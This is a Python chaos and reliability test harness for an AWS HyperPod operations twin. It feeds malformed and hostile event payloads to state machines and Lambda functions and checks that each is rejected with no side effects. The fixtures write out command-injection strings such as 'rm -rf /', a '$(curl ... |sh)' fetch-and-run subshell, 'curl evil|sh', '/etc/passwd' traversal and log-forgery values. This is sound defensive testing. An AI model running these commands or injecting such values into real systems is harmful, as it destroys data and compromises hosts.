"""`make chaos`: the reliability suite, run against the twin (real ASL, real handlers, moto).

    python -m hpops_twin.chaos [--json FILE] [--seeds N] [--backoff-scale X] [--parts 1,2,3]

Part 1, hostile input. Malformed and hostile inputs at every entry point: each EventBridge rule
of template.yaml (delivered to the rule's target when the rule's pattern matches, and started
on the target directly when it does not: a pattern is not a security boundary, anyone with
states:StartExecution or lambda:InvokeFunction can send the same input), the sweep and manual
inputs of every state machine, the node-report bus. Each must end in a named rejection error
(in the execution history's ExecutionFailed event, or the invocation's error type) after zero
mutating AWS calls (anything but Describe*/List*/Get*/BatchGet*/Query/Scan; the lease's
UpdateItem counts). Only the cluster and the input's shape are strict: odd hint fields (an
instance id in a HyperPod event) are accepted by design, so none is a must-fail case here.

Part 2, faults. For each seed, 30 % of our code's calls to SageMaker, ELBv2, SSM, Secrets Manager
and Budgets fail with throttling (HTTP 400) or 5xx (500/503) on the wire (faults.py), under
botocore's own retry logic: a login-node replacement plus sweep, sessions over their limit, a
budget sync with a scale-out. Every run must converge (target group, sessions, budgets, the
budget alert) and apply no side effect twice (same IP registered or deregistered twice,
TerminateSession of one session twice, a second CreateBudget, a notification sent twice).

Part 3, delivery. The same event twice (in turn and at once), a stale "node Running" after the
node was replaced, 20 events within a second, ApplyTargetChanges killed by a Lambda timeout
after RegisterTargets and before DeregisterTargets, two sweeps at once; duplicate StartSession
and budget events. The target group must end equal to the running login nodes, every event's
cluster must be reconciled by a pass that started after it, nothing applied twice, the lease
item free at the end.

Part 5, a cluster user with only the node role's credentials (chaos_secrets.py) goes after the host
private keys, other nodes' instructions and the holds list, and NodeChannel fetch without the
agent's key (own key, made-up proof, none, a node never enrolled, a captured request replayed or
late, a login key asking for the controller's list): each refused with a named error, nothing
secret handed back, nothing stored.

Exit status 0 only if every case survived with no side effect. No timing is asserted; wall time
per part is reported.
"""

from __future__ import annotations

import argparse
import copy
import datetime as dt
import json
import logging
import sys
import time
import warnings
from collections import Counter
from collections.abc import Callable
from dataclasses import asdict, dataclass
from typing import Any

from moto.events.models import EventPattern

from hpops_twin.budget_twin import at
from hpops_twin.faults import ChaosTransport, WireCall, is_mutating, target_ids
from hpops_twin.world import ACCOUNT_ID, ENFORCING, TwinWorld

LNS = "LoginNodeSyncStateMachine"
SESSIONS = "SessionLimitsStateMachine"
BUDGET = "BudgetGuardStateMachine"
NODE_REPORTS = "RecordNodeReportFunction"
USAGE_REPORTS = "RecordUsageReportFunction"
BUDGET_TAG = "hpops:monthly-budget-usd"
NOV_10 = dt.datetime(2026, 11, 10, 12, 0, tzinfo=dt.timezone.utc)
SESSION_LIMIT = 2  # MaxSessionsPerUser's default in template.yaml
FAULT_RATE = 0.3
WAIT_SECONDS = 900  # generous: a run under faults sleeps through botocore's and Step Functions' backoff


def quiet() -> None:
    """moto logs every failed execution at ERROR and Powertools warns on empty metrics; part 1 fails
    executions on purpose, so both would drown the report."""
    logging.getLogger("moto").setLevel(logging.CRITICAL)
    warnings.filterwarnings("ignore", message="No application metrics to publish")


def show(value: Any, limit: int = 150) -> str:
    """A payload as printable ASCII (escapes ANSI and control characters), cut to `limit`."""
    text = json.dumps(value, ensure_ascii=True, default=str)
    return text if len(text) <= limit else text[: limit - 20] + f"... ({len(text)} chars)"


def rejection_errors() -> frozenset[str]:
    """The error names that mean "input rejected, nothing changed": MalformedEventError,
    UnknownClusterError and their subclasses, NodeReportRejected, the usage reports' two, and the
    refusals of reports not signed by an enrolled agent (NodeProofError, NodeChannelError, capacity)."""
    import hpops_core.node_channel.reports as reports  # noqa: F401  (defines subclasses)
    import hpops_core.session_limits.trigger  # noqa: F401
    from hpops_core.budget_guard.usage_reports import MalformedUsageReport, UsageReportRejected
    from hpops_core.common.errors import MalformedEventError, UnknownClusterError

    from hpops_core.budget_guard.usage_capacity import UsageExceedsCapacityError
    from hpops_core.node_channel.enrollment import NodeChannelError
    from hpops_core.node_channel.node_proof import NodeProofError
    import hpops_core.node_channel.report_proof  # noqa: F401  (defines subclasses)

    names, todo = set(), [MalformedEventError, UnknownClusterError, reports.NodeReportRejected,
                          MalformedUsageReport, UsageReportRejected, NodeProofError, NodeChannelError,
                          UsageExceedsCapacityError]
    while todo:
        cls = todo.pop()
        names.add(cls.__name__)
        todo.extend(cls.__subclasses__())
    return frozenset(names)


def named_errors() -> frozenset[str]:
    """Every error our code raises on purpose (for runs that fail under faults: a failure must at
    least be one of these, so the state machine and the alarms can tell what happened)."""
    import hpops_core.budget_guard as budget_guard
    import hpops_core.session_limits.models as session_models
    from hpops_core.common.errors import HpopsError

    names, todo = set(), [HpopsError, budget_guard.BudgetGuardError, session_models.SessionLimitError]
    while todo:
        cls = todo.pop()
        names.add(cls.__name__)
        todo.extend(cls.__subclasses__())
    return frozenset(names | {"SessionTerminationFailed", "SessionReportFailed"})


def execution_failure(world: TwinWorld, arn: str) -> tuple[str | None, str | None]:
    """(error, cause) of the execution history's ExecutionFailed event, if any."""
    for event in reversed(world.history(arn)):
        if event["type"] == "ExecutionFailed":
            details = event.get("executionFailedEventDetails", {})
            return details.get("error"), details.get("cause")
    return None, None


def machine_of(arn: str) -> str:
    return arn.rsplit(":", 2)[-2].rsplit("-", 1)[-1]


def mutating_calls(world: TwinWorld, chaos: ChaosTransport, since: int) -> dict[str, int]:
    """Mutating calls our code made: the world's counter (every API call, even failed ones) and
    the wire record (requests that reached the service), whichever saw more."""
    seen: Counter = Counter({k: v for k, v in world.counter.calls.items() if is_mutating(k.split(".", 1)[1])})
    wire = Counter(f"{c.service}.{c.operation}" for c in chaos.mutations(since))
    return dict(seen | wire)


# ====================================================================== part 1: hostile inputs
@dataclass
class Hostile:
    entry: str  # "rule NodeHealth -> LoginNodeSync", "sweep/repair input -> LoginNodeSync", ...
    what: str  # what is hostile about it (plain ASCII; the payload itself may hold escapes)
    payload: Any
    target: str  # state machine logical id, or the function's logical id
    rule: str | None  # the template event source that would deliver it (None: started directly)
    expect: str  # the error the parser should name
    change: str  # where it differs from the well-formed input it was made from, printable


@dataclass
class HostileOutcome:
    entry: str
    what: str
    expect: str
    change: str
    payload: str
    routed: bool | None  # the rule's pattern matched (None: not a rule entry point)
    status: str
    error: str | None
    cause: str | None
    mutating: dict[str, int]
    survived: bool


def _set(event: Any, path: list, value: Any) -> Any:
    event = copy.deepcopy(event)
    node = event
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return event


def _drop(event: Any, path: list) -> Any:
    event = copy.deepcopy(event)
    node = event
    for key in path[:-1]:
        node = node[key]
    node.pop(path[-1], None)
    return event


def _difference(base: Any, payload: Any) -> str:
    """Where a hostile payload differs from the well-formed one it was made from, e.g.
    `detail.ClusterName = "..."` (ASCII, escaped): the finding names the exact fields."""
    found: list[str] = []

    def walk(old: Any, new: Any, path: str) -> None:
        where = path or "<whole input>"
        if old is None or type(old) is not type(new) or not isinstance(new, dict | list):
            if old != new:
                found.append(f"{where} = {show(new, 100)}")
        elif isinstance(new, list):
            if len(old) != len(new):
                found.append(f"{where} = {show(new, 100)}")
            else:
                for i, (a, b) in enumerate(zip(old, new)):
                    walk(a, b, f"{path}.{i}" if path else str(i))
        else:
            prefix = f"{path}." if path else ""
            found.extend(f"{prefix}{key} removed" for key in old if key not in new)
            for key, value in new.items():
                if key in old:
                    walk(old[key], value, prefix + key)
                else:
                    found.append(f"{prefix}{key} added = {show(value, 100)}")

    walk(base, payload, "")
    return "; ".join(found[:3]) + ("; ..." if len(found) > 3 else "")


def _nested(key: str, depth: int = 64) -> dict:
    junk: dict = {"x": 1}
    for _ in range(depth):
        junk = {key: junk}
    return junk


SHELL = "ml-research; rm -rf / #"
SUBSHELL = "$(curl -s http://203.0.113.9/x|sh)"
BACKTICK = "`reboot`"
ANSI = "\x1b[31mml-research\x1b[0m"
ANSI_TITLE = "\x1b]0;pwned\x07ml-research"
BIG = "A" * 10_240
TRAVERSAL = "../../../etc/passwd"
HOMOGLYPH = "ml\u2010research"  # U+2010 HYPHEN, not "-"
FULLWIDTH = "\uff4d\uff4c-research"
RTL = "ml-research\u202e"
NUL = "ml-research\u0000"
LOG_FORGERY = 'ml-research\n{"level":"INFO","message":"sync finished"}'


def hostile_cases(world: TwinWorld) -> list[Hostile]:
    sim, cluster = world.sim, world.cluster_name
    login = sorted(sim.nodes(cluster, world.login_group), key=lambda n: n.ip)
    worker = sim.nodes(cluster, world.worker_group)[0]
    cases: list[Hostile] = []

    def add(entry: str, target: str, rule: str | None, expect: str, items: list[tuple[str, Any]], base: Any = None) -> None:
        cases.extend(Hostile(entry, what, payload, target, rule, expect, _difference(base, payload)) for what, payload in items)

    malformed, unknown = "MalformedEventError", "UnknownClusterError"

    state = sim.state_change_event(cluster)
    name = ["detail", "ClusterName"]
    add("rule ClusterStateChange -> LoginNodeSync", LNS, "ClusterStateChange", malformed, [
        ("ClusterName with shell metacharacters", _set(state, name, SHELL)),
        ("ClusterName with ANSI escapes", _set(state, name, ANSI)),
        ("ClusterName of 10 kB", _set(state, name, BIG)),
        ("ClusterName with a Unicode hyphen (homoglyph)", _set(state, name, HOMOGLYPH)),
        ("ClusterName as an array holding the cluster (matches the rule)", _set(state, name, [cluster, SUBSHELL])),
        ("detail is null", _set(state, ["detail"], None)),
        ("detail without ClusterName", _drop(state, name)),
        ("source with a NUL byte", _set(state, ["source"], "aws.sagemaker\u0000")),
        ("unknown detail-type (trailing space)", _set(state, ["detail-type"], state["detail-type"] + " ")),
        ("ClusterName nested 64 levels deep", _set(state, name, _nested("ClusterName"))),
    ], base=state)
    add("rule ClusterStateChange -> LoginNodeSync", LNS, "ClusterStateChange", unknown, [
        ("well-formed event of another cluster", _set(state, name, "someone-elses-cluster")),
    ], base=state)

    health = sim.node_health_event(cluster, login[0].instance_id, "Unhealthy", "Replace")
    add("rule NodeHealth -> LoginNodeSync", LNS, "NodeHealth", malformed, [
        ("ClusterName with path traversal", _set(health, name, TRAVERSAL)),
        ("ClusterName forging a log line", _set(health, name, LOG_FORGERY)),
        ("ClusterName is a number", _set(health, name, 42)),
        ("ClusterName is null", _set(health, name, None)),
        ("ClusterName is empty", _set(health, name, "")),
        ("ClusterName as an array holding the cluster (matches the rule)", _set(health, name, [cluster])),
        ("ClusterName with a right-to-left override", _set(health, name, RTL)),
        ("detail is an array", _set(health, ["detail"], [health["detail"]])),
    ], base=health)
    add("rule NodeHealth -> LoginNodeSync", LNS, "NodeHealth", unknown, [
        ("well-formed event of another cluster", _set(health, name, f"{cluster}-2")),
    ], base=health)

    event = sim.cluster_event(cluster, world.login_group, login[0].instance_id, "Info",
                              f"EC2 Instance {login[0].instance_id} successfully provisioned")
    inner = ["detail", "EventDetails", "ClusterName"]
    add("rule ClusterEvent -> LoginNodeSync", LNS, "ClusterEvent", malformed, [
        ("EventDetails.ClusterName with backticks", _set(event, inner, BACKTICK)),
        ("EventDetails.ClusterName of 10 kB", _set(event, inner, BIG)),
        ("EventDetails.ClusterName as an array holding the cluster (matches the rule)", _set(event, inner, [cluster, BIG])),
        ("EventDetails.ClusterName with a NUL byte", _set(event, inner, NUL)),
        ("EventDetails is a string", _set(event, ["detail", "EventDetails"], "junk")),
        ("ClusterName one level too high, no EventDetails", {**event, "detail": {"ClusterName": cluster}}),
    ], base=event)
    add("rule ClusterEvent -> LoginNodeSync", LNS, "ClusterEvent", unknown, [
        ("well-formed event of another cluster", _set(event, inner, "other-cluster")),
    ], base=event)

    manual = {"cluster": cluster, "mode": "repair"}
    add("sweep/repair input -> LoginNodeSync", LNS, None, malformed, [
        ("cluster with && and a pipe", {"cluster": f"{cluster} && curl evil|sh", "mode": "repair"}),
        ("cluster with an ANSI title escape", {"cluster": ANSI_TITLE, "mode": "sweep"}),
        ("cluster of 10 kB", {"cluster": BIG, "mode": "repair"}),
        ("cluster with path traversal", {"cluster": TRAVERSAL, "mode": "repair"}),
        ("cluster in fullwidth letters", {"cluster": FULLWIDTH, "mode": "sweep"}),
        ("cluster is an array", {"cluster": [cluster], "mode": "sweep"}),
        ("unknown mode", manual | {"mode": "nuke"}),
        ("dryRun is the string \"false\"", manual | {"dryRun": "false"}),
        ("dryRun is null", manual | {"dryRun": None}),
        ("trigger with a subshell", manual | {"trigger": SUBSHELL}),
        ("unknown extra key", {"cluster": cluster, "mode": "sweep", "__proto__": {"admin": True}}),
        ("sweep input wrapped twice in {\"input\": ...}", {"input": {"cluster": cluster, "mode": "sweep"}}),
        ("empty object", {}),
        ("whole input is a number", 42),
        ("whole input is an array", [{"cluster": cluster, "mode": "sweep"}]),
        ("whole input is null", None),
        ("whole input is a string", "sweep"),
        ("cluster nested 64 levels deep", {"cluster": _nested("cluster"), "mode": "sweep"}),
    ], base=manual)
    add("sweep/repair input -> LoginNodeSync", LNS, None, unknown, [
        ("well-formed repair of another cluster", {"cluster": "someone-elses-cluster", "mode": "repair"}),
    ], base=manual)

    sessions = world.sessions
    role = sessions.user_role("mallory")
    target = sessions.target(login[0].instance_id)
    started = sessions.cloudtrail_event("mallory-0a1b2c3d4e5f67890", target, MALLORY, "AROAEXAMPLE1234:mallory", role,
                                        dt.datetime.now(dt.timezone.utc))
    session_id = ["detail", "responseElements", "sessionId"]
    add("rule SessionStarted (CloudTrail) -> SessionLimits", SESSIONS, "SessionStarted", malformed, [
        ("sessionId with shell metacharacters", _set(started, session_id, "mallory-1; rm -rf /")),
        ("sessionId with a subshell and no whitespace", _set(started, session_id, "mallory-$(reboot)")),
        ("sessionId with ANSI escapes", _set(started, session_id, "mallory-\x1b[2J0a1b2c3d")),
        ("sessionId of 10 kB", _set(started, session_id, "mallory-" + BIG)),
        ("sessionId with a right-to-left override", _set(started, session_id, "mallory-\u202egnp.exe")),
        ("target with path traversal after the login prefix",
         _set(started, ["detail", "requestParameters", "target"], sessions.login_prefix() + TRAVERSAL)),
        ("target with a command after the instance id",
         _set(started, ["detail", "requestParameters", "target"], target + ";reboot")),
        ("target as an array holding a login target (matches the rule)",
         _set(started, ["detail", "requestParameters", "target"], [target, SUBSHELL])),
        ("userIdentity.arn with a subshell",
         _set(started, ["detail", "userIdentity", "arn"], f"arn:aws:sts::{ACCOUNT_ID}:assumed-role/x/{SUBSHELL}")),
        ("responseElements null without an errorCode", _set(started, ["detail", "responseElements"], None)),
        ("detail is an array", _set(started, ["detail"], [started["detail"]])),
    ], base=started)
    add("rule SessionStarted (CloudTrail) -> SessionLimits", SESSIONS, "SessionStarted", unknown, [
        ("well-formed StartSession on another cluster's login node",
         _set(started, ["detail", "requestParameters", "target"], target.replace(sessions.cluster_id, "0123456789ab"))),
    ], base=started)
    sweep = {"cluster": cluster, "mode": "sweep"}
    add("sweep input -> SessionLimits", SESSIONS, None, malformed, [
        ("cluster with shell metacharacters", {"cluster": SHELL, "mode": "sweep"}),
        ("cluster with ANSI escapes", {"cluster": ANSI, "mode": "sweep"}),
        ("mode repair (not a session mode)", sweep | {"mode": "repair"}),
        ("dryRun is the string \"false\"", sweep | {"dryRun": "false"}),
        ("unknown extra key", sweep | {"limit": 1000}),
        ("whole input is null", None),
        ("whole input is an array", [sweep]),
    ], base=sweep)
    add("sweep input -> SessionLimits", SESSIONS, None, unknown, [
        ("well-formed sweep of another cluster", {"cluster": "other-cluster", "mode": "sweep"}),
    ], base=sweep)

    budget_event = at(state, NOV_10)
    group0 = ["detail", "InstanceGroups", 0]
    add("rule BudgetClusterStateChange -> BudgetGuard", BUDGET, "BudgetClusterStateChange", malformed, [
        ("ClusterName with shell metacharacters", _set(budget_event, name, SHELL)),
        ("ClusterName as an array holding the cluster (matches the rule)", _set(budget_event, name, [cluster, ANSI])),
        ("ClusterStatus with ANSI escapes", _set(budget_event, ["detail", "ClusterStatus"], "\x1b[2JInService")),
        ("TargetCount negative", _set(budget_event, group0 + ["TargetCount"], -5)),
        ("TargetCount is a word", _set(budget_event, group0 + ["TargetCount"], "lots")),
        ("InstanceType of 10 kB", _set(budget_event, group0 + ["InstanceType"], BIG)),
        ("InstanceGroupName with path traversal", _set(budget_event, group0 + ["InstanceGroupName"], TRAVERSAL)),
        ("InstanceGroups is a string", _set(budget_event, ["detail", "InstanceGroups"], "all of them")),
        ("event time is not a time", _set(budget_event, ["time"], "yesterday")),
        ("InstanceGroups nested 64 levels deep", _set(budget_event, ["detail", "InstanceGroups"], [_nested("InstanceGroups")])),
    ], base=budget_event)
    add("rule BudgetClusterStateChange -> BudgetGuard", BUDGET, "BudgetClusterStateChange", unknown, [
        ("well-formed event of another cluster", _set(budget_event, name, "someone-elses-cluster")),
    ], base=budget_event)
    add("sweep input -> BudgetGuard", BUDGET, None, malformed, [
        ("cluster of 10 kB", {"cluster": BIG, "mode": "sweep"}),
        ("cluster with a subshell", {"cluster": SUBSHELL, "mode": "sweep"}),
        ("mode repair", sweep | {"mode": "repair"}),
        ("unknown extra key dryRun", sweep | {"dryRun": True}),
        ("whole input is a number", 42),
        ("whole input is an array", [sweep]),
    ], base=sweep)
    add("sweep input -> BudgetGuard", BUDGET, None, unknown, [
        ("well-formed sweep of another cluster", {"cluster": "other-cluster", "mode": "sweep"}),
    ], base=sweep)

    report = {
        "version": "0", "id": "5d7b6f8e-1c2a-4b3d-9e8f-0a1b2c3d4e5f", "detail-type": "HyperPod Login Node Report",
        "source": "hpops.node", "account": ACCOUNT_ID, "time": "2026-11-23T08:00:01Z", "region": "us-east-1", "resources": [],
        "detail": {"format": "hpops.node.report.v1", "cluster": cluster, "instanceId": login[0].instance_id,
                   "ip": login[0].ip, "role": "login", "agentVersion": "1.0.0",
                   "reportedAt": "2026-11-23T08:00:01+00:00", "trigger": "heartbeat"},
    }
    identity = {"mode": "keys", "result": "changed", "reason": "installed"}

    def login_session(pid: int, user: str = "mallory") -> dict:
        return {"handle": f"5eed0b07:{pid}:{pid * 10}", "user": user, "path": "ssh", "tty": False,
                "startedAt": "2026-11-23T08:00:00Z"}

    add("rule NodeReport (node-report bus) -> RecordNodeReport", NODE_REPORTS, "NodeReport", "MalformedNodeReport", [
        ("instanceId with shell metacharacters", _set(report, ["detail", "instanceId"], "i-0123abcd; reboot")),
        ("ip with a command after it", _set(report, ["detail", "ip"], f"{login[0].ip}; reboot")),
        ("hostIdentity.reason of 10 kB", _set(report, ["detail", "hostIdentity"], identity | {"reason": BIG})),
        ("hostIdentity fingerprint with ANSI escapes",
         _set(report, ["detail", "hostIdentity"], identity | {"fingerprints": {"ssh-ed25519": "\x1b[31mSHA256:x"}})),
        ("agentVersion with path traversal", _set(report, ["detail", "agentVersion"], TRAVERSAL)),
        ("unknown report format", _set(report, ["detail", "format"], "hpops.node.report.v2")),
        ("unknown extra key", _set(report, ["detail", "__proto__"], {"admin": True})),
        ("cluster as an array holding the cluster (matches the rule)", _set(report, ["detail", "cluster"], [cluster])),
        ("session of a hostile user name", _set(report, ["detail", "sessions"], {"list": [login_session(1, "x; reboot")]})),
        ("session of root (never limited)", _set(report, ["detail", "sessions"], {"list": [login_session(1, "root")]})),
        ("the same session twice", _set(report, ["detail", "sessions"], {"list": [login_session(1)] * 2})),
        ("101 sessions (a huge list)",
         _set(report, ["detail", "sessions"], {"list": [login_session(n) for n in range(1, 102)]})),
    ], base=report)
    add("rule NodeReport (node-report bus) -> RecordNodeReport", NODE_REPORTS, "NodeReport", "NodeReportRejected", [
        ("another login node's IP (spoofed)", _set(report, ["detail", "ip"], login[1].ip)),
        ("a worker node claiming the login role",
         _set(_set(report, ["detail", "instanceId"], worker.instance_id), ["detail", "ip"], worker.ip)),
        ("role controller from the login group", _set(report, ["detail", "role"], "controller")),
        ("instance that is not in the cluster", _set(report, ["detail", "instanceId"], "i-0fedcba9876543210")),
        ("another login node's sessions, sent from this node",
         _set(_set(report, ["detail", "instanceId"], login[1].instance_id), ["detail", "sessions"],
              {"list": [login_session(1)]})),
        ("a worker node reporting SSH sessions",
         _set(_set(_set(report, ["detail", "instanceId"], worker.instance_id), ["detail", "ip"], worker.ip),
              ["detail", "sessions"], {"list": [login_session(1)]})),
    ], base=report)
    add("direct invoke -> RecordNodeReport", NODE_REPORTS, None, "MalformedNodeReport", [
        ("whole event is null", None),
        ("whole event is an array", [report]),
        ("whole event is a number", 42),
        ("detail nested 64 levels deep", _set(report, ["detail"], _nested("detail"))),
    ], base=report)
    _usage_and_hold_reports(cluster, login[0].instance_id, add)
    return cases


def _usage_and_hold_reports(cluster: str, login_instance: str, add: Callable[..., None]) -> None:
    """The controller's reports on the node-report bus: usage (what users spent) and holds (what the
    agent applied). Only the controller group's node is believed, and a holds report never decides
    who is held: a forged one must hold or release no one (no mutating call)."""
    envelope = {"version": "0", "id": "0f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9", "source": "hpops.node",
                "account": ACCOUNT_ID, "time": "2026-11-23T08:00:01Z", "region": "us-east-1", "resources": []}
    start = "2026-11-23T07:00:00Z"
    usage = envelope | {"detail-type": "HyperPod Slurm Usage Report", "detail": {
        "format": "hpops.node.usage.v1", "cluster": cluster, "instanceId": login_instance, "agentVersion": "1.0.0",
        "windowStart": start, "windowEnd": "2026-11-23T08:00:00Z", "final": True, "status": "ok", "reason": "",
        "collectedAt": "2026-11-23T08:00:01Z", "partitionGroups": {}, "part": 1, "parts": 1,
        "records": [{"key": f"{cluster}/{start}/alice/gpu", "user": "alice", "partition": "gpu", "nodeSeconds": 3600,
                     "cpuSeconds": 3600, "gpuSeconds": 0, "jobs": 1}]}}
    record = ["detail", "records", 0]
    add("rule UsageReport (node-report bus) -> RecordUsageReport", USAGE_REPORTS, "UsageReport", "MalformedUsageReport", [
        ("record user with shell metacharacters", _set(usage, record + ["user"], "alice; reboot")),
        ("record nodeSeconds negative (refunding spend)", _set(usage, record + ["nodeSeconds"], -3600)),
        ("record key of another window (replayed into this one)", _set(usage, record + ["key"], f"{cluster}/x/alice/gpu")),
        ("status not one the agent sends", _set(usage, ["detail", "status"], "ok\u0000")),
        ("part past parts", _set(usage, ["detail", "part"], 2)),
        ("window a day long (24x the capacity bound)", _set(usage, ["detail", "windowEnd"], "2026-11-24T08:00:00Z")),
    ], base=usage)
    add("rule UsageReport (node-report bus) -> RecordUsageReport", USAGE_REPORTS, "UsageReport", "UsageReportRejected", [
        ("well-formed report from a login node (not the controller)", usage),
    ], base=usage)
    holds = envelope | {"detail-type": "HyperPod Slurm Holds Report", "detail": {
        "format": "hpops.node.user-holds-report.v1", "cluster": cluster, "instanceId": login_instance,
        "agentVersion": "1.0.0", "reportedAt": "2026-11-23T08:00:01Z", "version": "0123456789abcdef",
        "enforced": True, "enforceReason": "AccountingStorageEnforce = associations,limits",
        "users": [{"user": "alice", "state": "held", "reason": "QOS hpopshold"}]}}
    row = ["detail", "users", 0]
    add("rule UsageReport (node-report bus) -> RecordUsageReport", USAGE_REPORTS, "UsageReport", "MalformedUsageReport", [
        ("holds report user with a subshell", _set(holds, row + ["user"], SUBSHELL)),
        ("holds report state lifted (no such state)", _set(holds, row + ["state"], "lifted")),
        ("holds report reason of 10 kB", _set(holds, row + ["reason"], BIG)),
        ("holds report IMDS probe answer not one the agent gives (doctor would call it blocked)",
         _set(holds, ["detail", "imds"], {"nonRoot": "blocked; reboot", "lockdown": "off"})),
        ("holds report enforced is the string true", _set(holds, ["detail", "enforced"], "true")),
        ("holds report version with path traversal", _set(holds, ["detail", "version"], TRAVERSAL)),
        ("holds report unknown extra key releaseAll", _set(holds, ["detail", "releaseAll"], True)),
    ], base=holds)
    add("rule UsageReport (node-report bus) -> RecordUsageReport", USAGE_REPORTS, "UsageReport", "UsageReportRejected", [
        ("well-formed holds report from a login node (not the controller)", holds),
    ], base=holds)


def _matches(pattern: dict, payload: Any) -> bool:
    return isinstance(payload, dict) and EventPattern.load(json.dumps(pattern)).matches_event(payload)


MALLORY = f"arn:aws:sts::{ACCOUNT_ID}:assumed-role/hpops-user-mallory/mallory"


def run_hostile(world: TwinWorld, chaos: ChaosTransport, case: Hostile, rejections: frozenset[str]) -> HostileOutcome:
    if case.target == SESSIONS:
        # mallory over her limit again, should an input accepted before have ended her excess
        missing = SESSION_LIMIT + 1 - len(world.sessions.store.active(owner_prefix=MALLORY))
        if missing > 0:
            world.sessions.add_sessions("mallory", missing)
    world.counter.reset()
    since = chaos.mark()
    routed: bool | None = None
    if case.target.endswith("Function"):
        function = world.resolver.physical_ids[case.target]
        before = len(world.dispatcher.invocations)
        rule = world.function_rules.get(case.rule) if case.rule else None
        if rule is not None:
            routed = _matches(rule["pattern"], case.payload)
        if routed:
            # What a node agent's PutEvents becomes: EventBridge builds the envelope around Detail.
            world.aws.client("events").put_events(Entries=[{
                "Source": case.payload["source"], "DetailType": case.payload["detail-type"],
                "Detail": json.dumps(case.payload["detail"]), "EventBusName": rule["bus"]}])
        else:
            world.dispatcher.invoke(function, copy.deepcopy(case.payload))
        runs = [i for i in world.dispatcher.invocations[before:] if i.function == function]
        if not runs:
            status, error, cause = "NOT INVOKED", None, "the bus delivered nothing"
        else:
            status = "FAILED" if runs[-1].error_type else "SUCCEEDED"
            error, cause = runs[-1].error_type, runs[-1].error_message
    else:
        if case.rule is not None:
            routed = _matches(world.rules[case.rule]["pattern"], case.payload)
        arn = world._start(world.state_machine_arns[case.target], case.payload, case.rule or "manual",
                           case.payload.get("id") if isinstance(case.payload, dict) and isinstance(case.payload.get("id"), str) else None)
        status = world.wait([arn], timeout=120)[0].status
        error, cause = execution_failure(world, arn)
    mutating = mutating_calls(world, chaos, since)
    survived = status == "FAILED" and error in rejections and not mutating
    return HostileOutcome(case.entry, case.what, case.expect, case.change, show(case.payload, 2_000), routed, status, error,
                          (cause or "")[:200] or None, mutating, survived)


def run_as_on(world: TwinWorld) -> None:
    """Session Manager preferences with Run As on (what saving them in the console writes): the
    twin's users carry SSMSessionRunAs tags, so each session counts against its own user."""
    content = {"schemaVersion": "1.0", "description": "Document to hold regional settings for Session Manager",
               "sessionType": "Standard_Stream",
               "inputs": {"s3BucketName": "", "cloudWatchLogGroupName": "", "runAsEnabled": True,
                          "runAsDefaultUser": "", "idleSessionTimeout": "20"}}
    ssm = world.aws.client("ssm")
    try:
        ssm.create_document(Name="SSM-SessionManagerRunShell", Content=json.dumps(content), DocumentType="Session",
                            DocumentFormat="JSON")
    except ssm.exceptions.DocumentAlreadyExists:
        pass  # a world shared by several scenarios saves its preferences once


def hostile_world_setup(world: TwinWorld) -> None:
    """Make a wrongly accepted input visible as a change: the target group is empty (a sync would
    fill it), mallory is over her session limit (a check would end one), the cluster has a budget
    limit (a budget check would create the budget)."""
    run_as_on(world)
    world.sessions.add_sessions("mallory", SESSION_LIMIT + 1)
    world.budget.tag_cluster(BUDGET_TAG, "750000")


def _miss(o: HostileOutcome, rejections: frozenset[str]) -> str:
    """A hostile input that did not survive, with what was observed."""
    route = {True: "the rule's pattern matched", False: "the rule's pattern did not match (started directly)",
             None: "started directly"}[o.routed]
    outcome = f"{o.status} {o.error or ''}".strip()
    if o.error not in rejections and o.cause:
        outcome += f" ({show(o.cause, 120)})"
    return (f"{o.entry}: {o.what} [{o.change}]; {route}; observed {outcome}; "
            f"mutating calls {o.mutating or 'none'}")


def part_hostile(progress: Callable[[str], None] = lambda _: None) -> dict:
    began = time.perf_counter()
    rejections = rejection_errors()
    outcomes: list[HostileOutcome] = []
    with TwinWorld(parameters=ENFORCING) as world, ChaosTransport(world).installed() as chaos:
        hostile_world_setup(world)
        for case in hostile_cases(world):
            outcome = run_hostile(world, chaos, case, rejections)
            outcomes.append(outcome)
            progress(f"{'ok  ' if outcome.survived else 'MISS'} {case.entry}: {case.what}")
        lease = world.lease_item() or {}
    findings = [_miss(o, rejections) for o in outcomes if not o.survived]
    if "holder" in lease:
        findings.append(f"the sync lease is held after the hostile inputs: {show(lease)}")
    entries = sorted({o.entry for o in outcomes})
    return {
        "part": f"1 hostile inputs ({len(entries)} entry points)",
        "tried": len(outcomes),
        "survived": sum(o.survived for o in outcomes),
        "side_effects": sum(sum(o.mutating.values()) for o in outcomes),
        "entry_points": entries,
        "seconds": round(time.perf_counter() - began, 1),
        "findings": findings,
        "outcomes": [asdict(o) for o in outcomes],
        "ok": not findings,
    }


# ====================================================================== side-effect ledgers (parts 2 and 3)
def applied_twice(chaos: ChaosTransport, since: int) -> list[str]:
    """Side effects our code caused more than once since `since`, as sentences."""
    twice: list[str] = []
    calls = [c for c in chaos.executed(since=since) if c.ok]
    for operation in ("RegisterTargets", "DeregisterTargets"):
        per_ip = Counter(ip for c in calls if c.operation == operation for ip in target_ids(c))
        twice += [f"{operation} of {ip} {n} times" for ip, n in sorted(per_ip.items()) if n > 1]
    ended = Counter(c.params.get("SessionId") for c in calls if c.operation == "TerminateSession")
    twice += [f"TerminateSession of {sid} {n} times" for sid, n in sorted(ended.items()) if n > 1]
    created = Counter(c.params.get("Budget", {}).get("BudgetName") for c in calls if c.operation == "CreateBudget")
    twice += [f"CreateBudget of {name} {n} times" for name, n in sorted(created.items()) if n > 1]
    twice += _notified_twice([c for c in calls if c.service == "sns" and c.operation == "Publish"])
    alert_events = Counter(
        key for c in calls if c.operation == "PutEvents"
        for entry in _event_entries(c) if entry.get("Source") == "hpops.budget-guard"
        for key in (json.loads(entry.get("Detail") or "{}").get("alertKeys") or [])
    )
    twice += [f"budget alert event {key} sent {n} times" for key, n in sorted(alert_events.items()) if n > 1]
    return twice


def _event_entries(call: WireCall) -> list[dict]:
    entries = call.params.get("Entries")
    return entries if isinstance(entries, list) else []


def _notified_twice(publishes: list[WireCall]) -> list[str]:
    """A notification is sent twice when the same message goes out again, or when two messages
    announce the same budget alert key. Host identity notices re-report a standing condition on
    each sync by design and are left out."""
    found: list[str] = []
    counted = [c for c in publishes if not c.sender.endswith("GateTargetChangesFunction")]
    same = Counter((c.params.get("Subject"), c.params.get("Message")) for c in counted)
